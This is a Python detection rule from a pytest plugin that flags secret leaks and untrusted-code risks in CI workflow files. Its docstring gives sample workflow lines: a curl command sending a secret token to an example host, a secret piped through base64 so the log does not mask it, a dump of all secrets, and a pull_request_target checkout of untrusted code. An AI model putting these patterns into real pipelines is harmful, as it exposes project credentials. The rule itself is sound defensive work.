"""SMG231: a workflow lets its secrets go, or lets strangers at them."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, text_rule
from pytest_selfmod_guard.rules.danger._workflows import started_by_strangers
from pytest_selfmod_guard.view import Side

_HIDDEN = r"\$\{\{\s{0,9}secrets\.(\w{1,80})\s{0,9}\}\}"
_FETCH = r"\b(?:curl|wget|nc|http|iwr|invoke-\w{1,20})\b"
_SENT = re.compile(
    rf"(?i){_FETCH}[^\n]{{0,400}}(?:-d|--data[\w-]{{0,12}}|-F|--form"
    rf"|--post-data|\?|&|-T)[ =]?[^\n]{{0,200}}?{_HIDDEN}"
)
_PIPED = re.compile(
    rf"(?i){_HIDDEN}[^\n|]{{0,80}}\|\s{{0,9}}(?:base64|rev|xxd|od"
    rf"|sed|tr|fold|{_FETCH})(?!\s{{1,3}}(?:-d|--decode))"
)
_WHOLE = re.compile(r"(?i)\btojson\(\s{0,9}secrets\s{0,9}\)")
_HEAD = re.compile(
    r"(?:\bref:|\bcheckout\b|\bpull\b|\bfetch\b)[^\n]{0,80}"
    r"(?:github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|refs/pull/)"
)
_STRANGE = re.compile(
    r"\$\{\{[^}\n]{0,80}(?:github\.event\.(?:issue|pull_request|comment|review|review_comment"
    r"|discussion|head_commit|commits|pages|release|workflow_run)\b[\w.\[\]*]{0,60}"
    r"\.(?:title|body|message|ref|label|name|email|page_name|default_branch|head_branch)\b"
    r"|github\.head_ref\b|github\.event\.(?:label|milestone)\.(?:name|title|description)\b)"
)
_SCRIPT = re.compile(r"^(\s{0,40}(?:-\s{1,9})?)(?:run|script|shell|command)\s{0,9}:")
_BRANCH = re.compile(
    r"\buses:\s{0,9}(?!actions/|github/|\./|docker:)([\w.-]{1,80}/[\w./-]{1,"
    r"120})@(?:main|master|develop|dev|latest|HEAD)\b"
)
_ALL = re.compile(r"\bpermissions:\s{0,9}write-all\b")
_EVERYTHING = "this gives the job every permission"
_TELLING = 4
"""Letters, from which the first part of a secret's name may be a service's."""
_URL = re.compile(r"(?i)(?:url|hook|endpoint)")


@text_rule(
    "SMG231",
    risk=Risk.HIGH,
    hint="hand a secret to one step by its `env`, and to the service that "
    "issued it by a header; judge "
    "pull requests from outside by `pull_request`, which has no secrets; pin actions by their hash",
    triggers=(
        b"workflow_run",
        b"secrets",
        b"pull_request_target",
        b"uses:",
        b"write-all",
        b"github.",
    ),
)
def workflow_leaks(side: Side) -> Iterable[Sighting]:
    """
    A workflow sends its secrets away, prints them in disguise, or runs strangers' code with them.

    A workflow that strangers start with the project's rights counts where it
    also builds, or may write; otherwise it is a warning. Actions taken by a
    branch and all permissions at once are a warning. Of a stranger's text in
    a script a person may say that it cannot hold commands.

    Flagged: all secrets at once
        === .github/workflows/test.yml
        +       - run: echo '${{ toJSON(secrets) }}' > all.json

    Flagged: a secret as data
        === .github/workflows/test.yml
        +       - run: curl -d "k=${{ secrets.PYPI_TOKEN }}" https://example.invalid/in

    Flagged: printed so that it is not masked
        === .github/workflows/test.yml
        +       - run: echo "${{ secrets.PYPI_TOKEN }}" | base64 | base64

    Flagged: a stranger's code with secrets
        === .github/workflows/test.yml
          on:
        +   pull_request_target:
          jobs:
            test:
              steps:
                - uses: actions/checkout@v4
                  with:
                    ref: ${{ github.event.pull_request.head.sha }}

    Flagged: strangers start a build that may write
        === .github/workflows/test.yml
        + on: pull_request_target
        + permissions: write-all
        + jobs:
        +   test:
        +     steps:
        +       - uses: actions/checkout@v4
        +       - run: make

    Flagged: a stranger's text becomes part of a script
        === .github/workflows/greet.yml
        +       - run: |
        +           echo hello
        +           echo "${{ github.event.issue.title }}"

    Flagged: strangers start a labeller [medium]
        === .github/workflows/label.yml
        + on: [pull_request_target]
        + permissions:
        +   pull-requests: write
        + jobs:
        +   label:
        +     steps:
        +       - uses: actions/labeler@v5

    Flagged: an action that changes any day [medium]
        === .github/workflows/test.yml
        +       - uses: somebody/action@main

    Allowed: a stranger's text in a variable
        === .github/workflows/greet.yml
        +       - run: echo "$TITLE"
        +         env:
        +           TITLE: ${{ github.event.issue.title }}

    Allowed: a token for the service that issued it
        === .github/workflows/test.yml
        +       - run: curl -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/user
        +       - run: curl -d "text=done" "${{ secrets.SLACK_WEBHOOK_URL }}"
        +       - uses: actions/checkout@v4
    """
    if not _is_workflow(side.path):
        return
    yield from started_by_strangers(side)
    target = "pull_request_target" in (side.text or "")
    for number, line in enumerate(side.lines, 1):
        if not line.lstrip().startswith("#"):
            for what, risk in _seen(line[:2000], target=target):
                settled = "review" if what == _EVERYTHING else ""
                code = " ".join(line.split())
                yield Sighting(number, what, code, risk=risk, settled_by=settled)
    for number, line in _scripted(side.lines):
        if _STRANGE.search(line):
            what, code = "this puts a stranger's text into a script", " ".join(line.split())
            yield Sighting(number, what, code, settled_by="review")


def _scripted(lines: list[str]) -> Iterator[tuple[int, str]]:
    """Give the lines of a workflow that a shell or an interpreter is to run."""
    depth = -1
    for number, line in enumerate(lines, 1):
        here = len(line) - len(line.lstrip())
        if depth >= 0 and line.strip() and here <= depth:
            depth = -1
        if found := _SCRIPT.match(line):
            depth = len(found[1])
        if depth >= 0 and not line.lstrip().startswith("#"):
            yield number, line[:2000]


def _is_workflow(path: str) -> bool:
    return path.endswith((".yml", ".yaml")) and (
        path.startswith((".github/", ".gitlab", ".circleci/"))
        or "pipeline" in path
        or "action" in path
    )


def _seen(line: str, *, target: bool) -> Iterator[tuple[str, Risk]]:
    if _WHOLE.search(line):
        yield "this hands out every secret of the project at once", Risk.HIGH
    elif _is_sent(line):
        yield "this sends a secret away", Risk.HIGH
    elif _PIPED.search(line):
        yield "this prints a secret in a form that is not masked", Risk.HIGH
    if target and _HEAD.search(line):
        yield "this runs a stranger's code with the project's secrets", Risk.HIGH
    if _BRANCH.search(line):
        yield "this action is whatever its branch holds that day", Risk.MEDIUM
    if _ALL.search(line):
        yield _EVERYTHING, Risk.HIGH


def _is_sent(line: str) -> bool:
    """Tell whether a secret is sent as data; one that is the address itself is not."""
    found = _SENT.search(line)
    if found is None or _URL.search(found[1]):
        return False
    service = found[1].lower().split("_")[0]
    return len(service) < _TELLING or f"{service}" not in line.lower().replace(found[1].lower(), "")
